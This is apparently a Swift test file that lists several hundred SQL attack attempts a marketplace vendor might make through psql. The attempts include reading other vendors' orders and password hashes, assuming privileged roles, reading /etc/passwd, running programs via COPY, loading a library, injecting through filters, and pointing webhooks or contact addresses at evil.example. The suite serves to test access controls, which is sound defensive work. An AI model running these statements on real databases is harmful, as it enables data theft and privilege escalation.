import Market
import TestSupport

/// What a vendor tries with psql to see more than their own.
enum VendorAttacks {
  static let all = reading + rights + objects + server + functions + answers

  /// The order that both vendors sold a line of, and one that only the other did.
  private static let shared = SeededMarket.Order.delivered.number
  private static let foreign = SeededMarket.Order.refused.number

  private static let reading: [Attack] = [
    .sql("read another vendor's orders from the table", .vendor, "SELECT * FROM gkm.orders"),
    .sql("read another vendor's lines from the table", .vendor, "SELECT * FROM gkm.order_line WHERE vendor_id = 2"),
    .sql("read stock with its ciphertext", .vendor, "TABLE gkm.stock_unit"),
    .sql("read a month of the audit log past its parent", .vendor, "SELECT * FROM gkm.audit_event_default"),
    .sql("see a competitor's sales in the planner's estimate", .vendor, "EXPLAIN SELECT * FROM gkm.vendor_order"),
    .sql("prepare a statement on a table", .vendor, "PREPARE p AS SELECT * FROM gkm.orders"),
    .sql("open a cursor on a table", .vendor, "DECLARE c CURSOR FOR SELECT * FROM gkm.orders", first: "BEGIN"),
    .sql("copy a table out", .vendor, "COPY gkm.orders TO STDOUT"),
    .sql("have XML made of a table", .vendor, "SELECT query_to_xml('SELECT * FROM gkm.orders', true, false, '')"),
    .sql("have the whole schema made XML", .vendor, "SELECT schema_to_xml('gkm', true, false, '')"),
    .sql(
      "have text statistics made of a table", .vendor, "SELECT * FROM ts_stat('SELECT customer_email FROM gkm.orders')"),
    .sql(
      "join a table to a list of their own", .vendor,
      "SELECT * FROM api.vendor_list('orders', '{}', NULL, 5) v JOIN gkm.orders o ON o.id = v.id"),
    .sql(
      "look with row security off", .vendor, "SELECT * FROM api.vendor_list('orders', '{}', NULL, 500)",
      first: "SET row_security = off", says: "row-level security"),
    .sql("read common values from the planner's statistics", .vendor, "SELECT most_common_vals FROM pg_stats"),
    .sql("read histograms from the statistics' catalogue", .vendor, "SELECT stavalues1 FROM pg_statistic"),
    .sql("read extended statistics", .vendor, "SELECT * FROM pg_statistic_ext_data"),
    .sql("count others' writes", .vendor, "SELECT n_tup_ins FROM pg_stat_all_tables"),
    .sql(
      "count others' writes by function", .vendor, "SELECT pg_stat_get_tuples_inserted('gkm.orders'::regclass)",
      ["42501"]),
    .sql("measure the whole database", .vendor, "SELECT pg_database_size(current_database())"),
    .sql("watch what others run", .vendor, "SELECT usename, query FROM pg_stat_activity"),
    .sql("watch what others run by function", .vendor, "SELECT * FROM pg_stat_get_activity(NULL)"),
    .sql("watch others' locks", .vendor, "SELECT * FROM pg_locks"),
    .sql("list logins", .vendor, "SELECT rolname FROM pg_roles"),
    .sql("list who is a member of what", .vendor, "SELECT member::regrole FROM pg_auth_members"),
    .sql("list logins by their settings", .vendor, "SELECT setrole::regrole FROM pg_db_role_setting"),
    .sql("list logins by what they own", .vendor, "SELECT refobjid::regrole FROM pg_shdepend"),
    .sql("read passwords", .vendor, "SELECT rolname, rolpassword FROM pg_authid"),
    .sql("read passwords from the old catalogue", .vendor, "SELECT * FROM pg_shadow"),
    .sql("read where orders' numbering stands", .vendor, "SELECT last_value FROM gkm.orders_id_seq"),
    .sql("read all sequences", .vendor, "SELECT * FROM pg_sequences"),
    .sql("read another's large object", .vendor, "SELECT lo_get(1)"),
  ]

  private static let rights: [Attack] = [
    .sql("become operations", .vendor, "SET ROLE gkm_ops"),
    .sql("become the tables' owner", .vendor, "SET ROLE gkm_owner"),
    .sql("become the functions' owner", .vendor, "SET ROLE gkm_api"),
    .sql("become the reader of vendors' data", .vendor, "SET ROLE gkm_vendor_read"),
    .sql("become the maker of people", .vendor, "SET ROLE gkm_people"),
    .sql("become the daemon for the session", .vendor, "SET SESSION AUTHORIZATION gkm_daemon"),
    .sql("make oneself a superuser", .vendor, "ALTER ROLE {me} SUPERUSER"),
    .sql("make oneself a maker of roles", .vendor, "ALTER ROLE {me} CREATEROLE"),
    .sql("pass by row security", .vendor, "ALTER ROLE {me} BYPASSRLS"),
    .sql("have more connections", .vendor, "ALTER ROLE {me} CONNECTION LIMIT -1"),
    .sql("never expire", .vendor, "ALTER ROLE {me} VALID UNTIL 'infinity'"),
    .sql("be known by another's name", .vendor, "ALTER ROLE {me} RENAME TO ops_anna", ["0A000"]),
    .sql("grant oneself operations", .vendor, "GRANT gkm_ops TO CURRENT_USER"),
    .sql("grant oneself the server's files", .vendor, "GRANT pg_read_server_files TO CURRENT_USER"),
    .sql("make a login", .vendor, "CREATE ROLE eve LOGIN"),
    .sql("grant everybody a table", .vendor, "GRANT SELECT ON gkm.orders TO PUBLIC"),
    .sql(
      "change default rights of the owner", .vendor,
      "ALTER DEFAULT PRIVILEGES FOR ROLE gkm_owner GRANT SELECT ON TABLES TO PUBLIC"),
    .sql("drop what the owner owns", .vendor, "DROP OWNED BY gkm_owner"),
    .sql("take over what the owner owns", .vendor, "REASSIGN OWNED BY gkm_owner TO CURRENT_USER"),
    .sql("rest the triggers", .vendor, "SET session_replication_role = replica"),
    .sql("write without waiting for the log", .vendor, "ALTER SYSTEM SET fsync = off"),
    .sql("log everybody's statements", .vendor, "SET log_statement = 'all'"),
    .sql("load a library", .vendor, "LOAD '/tmp/evil.so'"),
    .sql(
      "have a library loaded in the next session", .vendor, "ALTER ROLE {me} SET session_preload_libraries = 'evil'"),
    .sql("let the database have another owner", .vendor, "ALTER DATABASE {database} OWNER TO {me}"),
  ]

  private static let objects: [Attack] = [
    .sql("make a table in public", .vendor, "CREATE TABLE public.mine (x int)"),
    .sql("make a table beside the functions", .vendor, "CREATE TABLE api.mine (x int)"),
    .sql("make a table in no schema at all", .vendor, "CREATE TABLE mine (x int)", ["42501", "3F000"]),
    .sql("make a temporary table to shadow another", .vendor, "CREATE TEMP TABLE orders (x int)"),
    .sql(
      "make a temporary function to shadow another", .vendor,
      "CREATE FUNCTION pg_temp.my_vendor() RETURNS bigint LANGUAGE sql AS 'SELECT 2'"),
    .sql(
      "make a function that shadows one of ours", .vendor,
      "CREATE FUNCTION public.lower(text) RETURNS text LANGUAGE sql AS 'SELECT $1'"),
    .sql(
      "put another function in the place of one of ours", .vendor,
      "CREATE OR REPLACE FUNCTION api.my_vendor() RETURNS bigint LANGUAGE sql AS 'SELECT 2::bigint'"),
    .sql(
      "make an operator that leaks", .vendor,
      "CREATE OPERATOR public.=== (LEFTARG = text, RIGHTARG = text, FUNCTION = texteq)"),
    .sql("make a cast that leaks", .vendor, "CREATE CAST (bigint AS text) WITH INOUT"),
    .sql("make a view", .vendor, "CREATE VIEW api.mine AS SELECT 1"),
    .sql("make a schema", .vendor, "CREATE SCHEMA mine"),
    .sql("make a domain", .vendor, "CREATE DOMAIN public.mine AS text"),
    .sql(
      "make an event trigger", .vendor,
      "CREATE EVENT TRIGGER mine ON ddl_command_end EXECUTE FUNCTION api.my_vendor()", ["42501", "42P17"]),
    .sql(
      "make a trigger on a table", .vendor,
      "CREATE TRIGGER mine BEFORE INSERT ON gkm.orders FOR EACH ROW EXECUTE FUNCTION suppress_redundant_updates_trigger()"
    ),
    .sql("make a rule on a table", .vendor, "CREATE RULE mine AS ON INSERT TO gkm.orders DO INSTEAD NOTHING"),
    .sql("make a policy of one's own", .vendor, "CREATE POLICY mine ON gkm.orders USING (true)"),
    .sql("switch row security off", .vendor, "ALTER TABLE gkm.orders DISABLE ROW LEVEL SECURITY"),
    .sql("drop a function", .vendor, "DROP FUNCTION api.whoami()"),
    .sql("run a block of code", .vendor, "DO $$ BEGIN PERFORM 1; END $$"),
    .sql("have an extension", .vendor, "CREATE EXTENSION dblink SCHEMA api"),
    .sql("reach another server", .vendor, "CREATE SERVER evil FOREIGN DATA WRAPPER dblink_fdw", ["42501", "42704"]),
    .sql("publish the tables to a replica", .vendor, "CREATE PUBLICATION mine FOR ALL TABLES"),
    .sql(
      "follow the tables from a replica", .vendor,
      "CREATE SUBSCRIPTION mine CONNECTION 'host=127.0.0.1' PUBLICATION mine"),
    .sql("read changes from the log", .vendor, "SELECT pg_create_logical_replication_slot('mine', 'pgoutput')"),
    .sql("say something about an object", .vendor, "COMMENT ON SCHEMA api IS 'mine'"),
  ]

  private static let server: [Attack] = [
    .sql("write a large object", .vendor, "SELECT lo_from_bytea(0, '\\x00')"),
    .sql("import a file as a large object", .vendor, "SELECT lo_import('/etc/passwd')"),
    .sql("hold an advisory lock", .vendor, "SELECT pg_advisory_lock(7261002)"),
    .sql("hold an advisory lock for the transaction", .vendor, "SELECT pg_try_advisory_xact_lock(1, 1)"),
    .sql("run a program", .vendor, "COPY (SELECT 1) TO PROGRAM 'true'"),
    .sql("read a program's output", .vendor, "COPY gkm.orders FROM PROGRAM 'true'"),
    .sql("write a file", .vendor, "COPY (SELECT 1) TO '/tmp/gkm-was-here'"),
    .sql("read a file", .vendor, "SELECT pg_read_file('PG_VERSION')"),
    .sql("list a folder", .vendor, "SELECT pg_ls_dir('.')"),
    .sql("list the write-ahead log", .vendor, "SELECT * FROM pg_ls_waldir()"),
    .sql("read the server's log", .vendor, "SELECT pg_current_logfile()"),
    .sql("fill the write-ahead log", .vendor, "SELECT pg_logical_emit_message(false, 'x', repeat('x', 1000))"),
    .sql("end somebody's session", .vendor, "SELECT pg_terminate_backend({pid})"),
    .sql("have the configuration read again", .vendor, "SELECT pg_reload_conf()"),
    .sql("switch the log to another file", .vendor, "SELECT pg_switch_wal()"),
    .sql("write a checkpoint", .vendor, "CHECKPOINT"),
    .sql("read where the server's files are", .vendor, "SHOW data_directory"),
    .sql("read who may come from where", .vendor, "SELECT * FROM pg_hba_file_rules"),
    .sql("read the server's configuration file", .vendor, "SELECT sourcefile FROM pg_file_settings"),
    .sql("lock a table against everybody", .vendor, "LOCK TABLE gkm.orders IN ACCESS EXCLUSIVE MODE", first: "BEGIN"),
    .sql("make a database", .vendor, "CREATE DATABASE mine"),
  ]

  private static let functions: [Attack] = [
    .sql("raise one's own stock", .vendor, "UPDATE gkm.listing_stock SET available = available + 100"),
    .sql("lower a competitor's price", .vendor, "UPDATE gkm.listing SET price = 1 WHERE vendor_id = 2"),
    .sql("post oneself money", .vendor, "INSERT INTO gkm.ledger_posting DEFAULT VALUES"),
    .sql(
      "lower the commission", .vendor,
      "SELECT api.commission_set(1, NULL, NULL, 0, '{}', NULL, NULL, 1, 'I deserve it')"),
    .sql("retry a delivery", .vendor, "SELECT api.retry_delivery(1, 1, 'because I can')"),
    .sql("refund an order", .vendor, "SELECT api.request_refund(1, 3, 'whole', NULL, NULL, NULL, 'why not', false)"),
    .sql(
      "plan a refund to see the whole order's amount", .vendor,
      "SELECT api.request_refund(1, 3, 'whole', NULL, NULL, NULL, NULL, true)"),
    .sql("hold a competitor's order", .vendor, "SELECT api.hold_order(4, 3, 'looks like fraud', false)"),
    .sql(
      "send an order's keys to oneself", .vendor,
      "SELECT api.resend_elsewhere(4, 3, 'me@evil.example', 'wrong address', false)"),
    .sql("have a key shown", .vendor, "SELECT api.reveal_request(1, 'let me see', decode(repeat('07', 32), 'hex'))"),
    .sql("find the order of a key", .vendor, "SELECT api.find_key(decode(repeat('07', 64), 'hex'))"),
    .sql("let somebody in again", .vendor, "SELECT api.person_enable('{other}', NULL, NULL, 'a friend')"),
    .sql("add a person", .vendor, "SELECT api.person_add('eve_admin', 'Eve', 'admin', NULL, NULL)"),
    .sql("change a setting", .vendor, "SELECT api.set_setting('refund.limit.eur', '0', 0, 'so be it')"),
    .sql("pause the market's work", .vendor, "SELECT api.pause_work('deliver', 0, 'a strike')"),
    .sql("write an audit event", .vendor, "SELECT gkm.audit('order.held','order','1',1,'x',1,'ops','x','{}')"),
    .sql("call a function of the daemon", .vendor, "SELECT gkm.notice_received(ARRAY[1])"),
    .sql("ask for the inner check of a role", .vendor, "SELECT gkm.demand_role('vendor')"),
    .sql(
      "withdraw another vendor's stock", .vendor, "SELECT api.withdraw_stock(3, NULL, NULL, 1, 'not yours')", ["P0002"]),
    .sql(
      "import into another vendor's listing", .vendor, "SELECT api.stock_import_begin(3, 'x', false, NULL)", ["P0002"]),
    .sql("see another vendor's import", .vendor, "SELECT api.stock_import_standing(3)", ["P0002"]),
    .sql(
      "see the verdicts of another vendor's import", .vendor, "SELECT * FROM api.stock_verdicts(3, 0, 10)", ["P0002"]),
    .sql("cancel another vendor's import", .vendor, "SELECT api.stock_import_cancel(3, 'not yours')", ["P0002"]),
    .sql("change another vendor's threshold", .vendor, "SELECT api.stock_threshold(3, 1, 'tell me')", ["P0002"]),
    .sql(
      "take over another vendor's address", .vendor,
      "SELECT api.vendor_contact(2, 'me@evil.example', NULL, NULL, 'mine now')", ["P0002"]),
    .sql(
      "add an endpoint for another vendor's events", .vendor,
      "SELECT api.webhook_add(2, 'https://evil.example', ARRAY['order.new'], 'mine now')", ["P0002"]),
    .sql(
      "point another vendor's endpoint at oneself", .vendor,
      "SELECT api.webhook_change(9002, 1, 'https://evil.example', NULL, 'mine now')", ["P0002"]),
    .sql(
      "have another vendor's secret", .vendor,
      "SELECT api.webhook_secret(9002, decode(repeat('07', 32), 'hex'), NULL)", ["P0002"]),
    .sql(
      "read the answer to another's request for a secret", .vendor, "SELECT api.webhook_secret_answer(9001)", ["P0002"]),
    .sql(
      "disable another vendor's endpoint", .vendor, "SELECT api.webhook_state(9002, 1, 'disabled', 'gone')", ["P0002"]),
    .sql("answer another vendor's case", .vendor, "SELECT api.vendor_case_answer(9002, 'all is well')", ["P0002"]),
    .sql(
      "call an endpoint at an address with a password in it", .vendor,
      "SELECT api.webhook_add(NULL, 'https://user:secret@evil.example', ARRAY['order.new'], NULL)", ["22023"]),
    .sql(
      "call an endpoint that is a file", .vendor,
      "SELECT api.webhook_add(NULL, 'file:///etc/passwd', ARRAY['order.new'], NULL)", ["22023"]),
    .sql(
      "put a line break into an endpoint's address", .vendor,
      "SELECT api.webhook_add(NULL, E'https://x.example/\\r\\nX-A: b', ARRAY['order.new'], NULL)", ["22023"]),
    .sql(
      "write an escape sequence into the audit log", .vendor,
      "SELECT api.webhook_add(NULL, 'https://x.example', ARRAY['order.new'], E'\\x1B[2Jgone')", ["23514"]),
    .sql("turn the audit log's text round", .vendor, "SELECT api.stock_threshold(1, 5, U&'\\202Eesrever')", ["23514"]),
    .sql(
      "write a megabyte of reason into the audit log", .vendor,
      "SELECT api.stock_threshold(1, 5, repeat('x', 1000000))", ["22023"]),
    .sql("rotate a secret whatever its version", .vendor, "SELECT api.webhook_rotate(9001, NULL, 0, NULL)", ["40001"]),
    .sql(
      "enable an endpoint whatever its version", .vendor, "SELECT api.webhook_state(9001, NULL, 'active', NULL)",
      ["40001"]),
    .sql(
      "import more than a chunk may hold", .vendor,
      "SELECT api.stock_import_put((SELECT api.stock_import_begin(1, 'x', false, NULL)), 0, 1, decode(repeat('00', 1048577), 'hex'))",
      ["22023"]),
    .sql(
      "list what is not theirs to list", .vendor, "SELECT * FROM api.vendor_list('people', '{}', NULL, 10)", ["22023"]),
    .sql(
      "hear of another's order in an error of a cast", .vendor,
      "SELECT * FROM api.vendor_list('orders', '{\"since\": \"4711-foo\"}', NULL, 10)", ["22007"], says: "4711-foo"),
  ]

  /// Questions that are answered with nothing, or with what is their own.
  private static let answers: [Attack] = [
    .tells(
      "be another vendor by a setting", .vendor, "SELECT vendor_id::text FROM api.whoami()",
      first: "SET app.vendor = '2'; SET gkm.vendor_id = '2'", ["1"]),
    .tells(
      "be another vendor by a search path", .vendor, "SELECT api.my_vendor()::text",
      first: "SET search_path = pg_temp, public, api", ["1"]),
    .tells(
      "see another vendor's order by its number", .vendor,
      "SELECT row_data::text FROM api.vendor_timeline('\(foreign)')"),
    .tells(
      "see another vendor's lines by the order's number", .vendor,
      "SELECT row_data::text FROM api.vendor_lines('\(foreign)')"),
    .tells(
      "see another vendor's lines of a shared order", .vendor,
      "SELECT count(*)::text FROM api.vendor_lines('\(shared)')", ["1"]),
    .tells("read another vendor's case", .vendor, "SELECT row_data::text FROM api.vendor_case(9002)"),
    .tells(
      "find another vendor's order by its prefix", .vendor,
      "SELECT id::text FROM api.vendor_list('orders', '{\"text\": \"\(foreign)\"}', NULL, 10)"),
    .tells(
      "break out of a filter's text", .vendor,
      "SELECT id::text FROM api.vendor_list('orders', '{\"text\": \"'' OR true --\"}', NULL, 500)"),
    .tells(
      "name the other vendor in a filter", .vendor,
      "SELECT id::text FROM api.vendor_list('deliveries', '{\"vendor_id\": 2, \"vendor\": 2}', NULL, 500) WHERE id IN (2, 5)"
    ),
    .tells(
      "page behind another vendor's row", .vendor,
      "SELECT id::text FROM api.vendor_list('audit', '{}', 1, 500) WHERE row_data->>'order' = '\(foreign)'"),
    .tells(
      "see the customer of a shared order", .vendor,
      "SELECT id::text FROM api.vendor_list('orders', '{}', NULL, 500) WHERE row_data::text LIKE '%ada@example.com%'"),
    .tells("see another vendor's endpoints", .vendor, "SELECT id::text FROM api.webhooks(2) WHERE vendor <> 'keyhaus'"),
    .tells(
      "hear what is told between others", .vendor, "SELECT 'nothing' WHERE false", first: "LISTEN gkm; LISTEN orders"),
    .tells(
      "ask for so many rows that all come", .vendor,
      "SELECT id::text FROM api.vendor_list('stock', '{}', NULL, 2147483647) WHERE id IN (3, 4)"),
  ]
}
